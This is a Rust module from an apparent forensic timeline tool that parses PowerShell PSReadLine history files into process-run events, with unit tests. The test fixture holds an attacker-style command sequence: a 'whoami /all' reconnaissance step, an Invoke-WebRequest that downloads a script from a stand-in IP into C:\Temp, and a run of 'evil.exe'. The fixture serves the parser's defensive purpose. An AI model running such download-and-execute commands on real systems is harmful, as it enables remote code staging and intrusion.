//! PowerShell PSReadLine history
//! (`C:\Users\<name>\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt`,
//! and the `<host>_history.txt` files other hosts such as VS Code write beside it).
//!
//! One command a line, UTF-8, no timestamps: every command becomes an untimed `run`
//! ([`Action::ProcessRun`]) event with `cmd`, the `username` from the `Users\<name>\`
//! part of the path and `file_name` (the program or cmdlet the command starts with).
//! PSReadLine saves a multi-line command with a backtick ending every line but the last;
//! such lines are joined (with newlines) into one command, numbered by its first line.

use crate::lines::Lines;
use crate::{ArtifactContext, ArtifactError, ArtifactParser};
use riposte_model::{Action, Event, EventOrigin};
use std::io::BufRead;

/// Longest command kept; longer ones are cut and marked `truncated`.
const MAX_COMMAND: usize = 1024 * 1024;
const PARSER: &str = "powershell_history";

/// Parser for PSReadLine history files.
#[derive(Debug, Clone, Copy, Default)]
pub struct PowerShellHistory;

impl ArtifactParser for PowerShellHistory {
    fn name(&self) -> &'static str {
        PARSER
    }

    fn claims(&self, original_path: &str) -> bool {
        let lower = original_path.to_ascii_lowercase().replace('\\', "/");
        let name = crate::file_name(&lower);
        lower.contains("/psreadline/") && name.ends_with("_history.txt")
    }

    fn parse<'r>(
        &self,
        ctx: &ArtifactContext,
        input: Box<dyn BufRead + Send + 'r>,
    ) -> Box<dyn Iterator<Item = Result<Event, ArtifactError>> + Send + 'r> {
        Box::new(Records {
            lines: Lines::new(input, MAX_COMMAND),
            host: ctx.host.clone(),
            path: ctx.original_path.clone(),
            username: windows_user(&ctx.original_path).map(str::to_string),
        })
    }
}

/// The account a Windows profile path belongs to: `C:\Users\bob\…`, `/Users/bob/…` → `bob`.
pub(crate) fn windows_user(path: &str) -> Option<&str> {
    let mut parts = path.split(['/', '\\']).filter(|p| !p.is_empty());
    while let Some(part) = parts.next() {
        if part.eq_ignore_ascii_case("users") || part.eq_ignore_ascii_case("Documents and Settings")
        {
            // The profile folder must have something under it (not the file itself).
            let user = parts.next()?;
            return parts.next().map(|_| user);
        }
    }
    None
}

/// The program or cmdlet a PowerShell command starts with: `& "C:\x\evil.exe" -a` →
/// `evil.exe`, `Invoke-WebRequest -Uri …` → `Invoke-WebRequest`; `None` for
/// expressions (`$x = …`, `(…)`, `{…}`).
pub(crate) fn program_name(cmd: &str) -> Option<&str> {
    let mut rest = cmd.trim_start();
    if let Some(after) = rest.strip_prefix('&').or_else(|| rest.strip_prefix(". ")) {
        rest = after.trim_start();
    }
    let word = match rest.chars().next()? {
        q @ ('"' | '\'') => {
            let body = &rest[1..];
            &body[..body.find(q).unwrap_or(body.len())]
        }
        '$' | '(' | '{' | '[' | '@' | '#' | '<' | '>' | '|' => return None,
        _ => rest
            .split(|c: char| c.is_whitespace() || c == ';' || c == '|')
            .next()?,
    };
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let keywords = [
        "if", "foreach", "for", "while", "do", "switch", "function", "try", "return", "param",
    ];
    if base.is_empty() || keywords.iter().any(|k| base.eq_ignore_ascii_case(k)) {
        return None;
    }
    Some(base)
}

struct Records<'r> {
    lines: Lines<'r>,
    host: String,
    path: String,
    username: Option<String>,
}

impl Records<'_> {
    fn read_error(&self, source: std::io::Error) -> ArtifactError {
        ArtifactError::Read {
            path: self.path.clone(),
            record: self.lines.number(),
            source,
        }
    }
}

impl Iterator for Records<'_> {
    type Item = Result<Event, ArtifactError>;

    fn next(&mut self) -> Option<Self::Item> {
        loop {
            let (number, mut text, mut truncated) = match self.lines.next_line()? {
                Ok(l) => (
                    l.number,
                    String::from_utf8_lossy(l.bytes).into_owned(),
                    l.truncated,
                ),
                Err(e) => return Some(Err(self.read_error(e))),
            };
            if number == 1
                && let Some(rest) = text.strip_prefix('\u{feff}')
            {
                text = rest.to_string();
            }
            let mut lines = 1u64;
            while !truncated && text.ends_with('`') {
                let next = match self.lines.next_line() {
                    Some(Ok(l)) => l,
                    Some(Err(e)) => return Some(Err(self.read_error(e))),
                    None => break,
                };
                lines += 1;
                text.push('\n');
                if text.len() + next.bytes.len() > MAX_COMMAND {
                    truncated = true;
                } else {
                    text.push_str(&String::from_utf8_lossy(next.bytes));
                    truncated = next.truncated;
                }
            }
            if text.trim().is_empty() {
                continue;
            }
            let origin = EventOrigin {
                parser: PARSER.into(),
                path: self.path.clone(),
                record: Some(number),
            };
            let one_line = text.replace('\n', " ");
            let message = match &self.username {
                Some(user) => format!("{user} ran in PowerShell: {one_line}"),
                None => format!("ran in PowerShell: {one_line}"),
            };
            let mut event = Event::new(
                None,
                self.host.as_str(),
                Action::ProcessRun,
                message,
                origin,
            )
            .with("cmd", text.as_str())
            .with("shell", "powershell")
            .with_raw(text.as_str());
            if let Some(user) = &self.username {
                event = event.with("username", user.as_str());
            }
            if let Some(name) = program_name(&text) {
                event = event.with("file_name", name);
            }
            if lines > 1 {
                event = event.with("lines", lines.to_string());
            }
            if truncated {
                event = event.with("truncated", "true");
            }
            return Some(Ok(event));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PATH: &str = "/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt";

    fn parse(text: &str) -> Vec<Event> {
        let ctx = ArtifactContext {
            host: "ws01".into(),
            original_path: PATH.into(),
            modified: None,
        };
        PowerShellHistory
            .parse(
                &ctx,
                Box::new(std::io::Cursor::new(text.as_bytes().to_vec())),
            )
            .map(Result::unwrap)
            .collect()
    }

    #[test]
    fn claims_psreadline_histories() {
        assert!(PowerShellHistory.claims(PATH));
        assert!(PowerShellHistory.claims(
            "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\Visual Studio Code Host_history.txt"
        ));
        assert!(!PowerShellHistory.claims("/Users/bob/notes_history.txt"));
        assert!(!PowerShellHistory.claims("/home/bob/.bash_history"));
    }

    #[test]
    fn commands_become_untimed_runs_and_backticks_join_lines() {
        let events = parse(
            "\u{feff}whoami /all\r\n\r\nInvoke-WebRequest -Uri http://203.0.113.9/a.ps1 `\r\n  -OutFile C:\\Temp\\a.ps1\r\n& \"C:\\Temp\\evil.exe\" -q\n$x = 1\n",
        );
        assert_eq!(events.len(), 4);
        assert_eq!(events[0].attr("cmd"), Some("whoami /all"));
        assert_eq!(events[0].attr("file_name"), Some("whoami"));
        assert_eq!(events[0].attr("username"), Some("bob"));
        assert_eq!(events[0].action, Action::ProcessRun);
        assert!(events[0].time.is_none());
        assert_eq!(events[0].origin.record, Some(1));
        assert_eq!(
            events[1].attr("cmd"),
            Some("Invoke-WebRequest -Uri http://203.0.113.9/a.ps1 `\n  -OutFile C:\\Temp\\a.ps1")
        );
        assert_eq!(events[1].attr("lines"), Some("2"));
        assert_eq!(events[1].origin.record, Some(3));
        assert_eq!(events[2].attr("file_name"), Some("evil.exe"));
        assert_eq!(events[2].origin.record, Some(5));
        assert_eq!(events[3].attr("file_name"), None);
    }

    #[test]
    fn user_comes_from_windows_profile_paths() {
        assert_eq!(
            windows_user("C:\\Users\\Alice\\AppData\\x.txt"),
            Some("Alice")
        );
        assert_eq!(windows_user("/users/alice/x"), Some("alice"));
        assert_eq!(windows_user("/Users/x.txt"), None);
        assert_eq!(windows_user("/var/x"), None);
    }
}
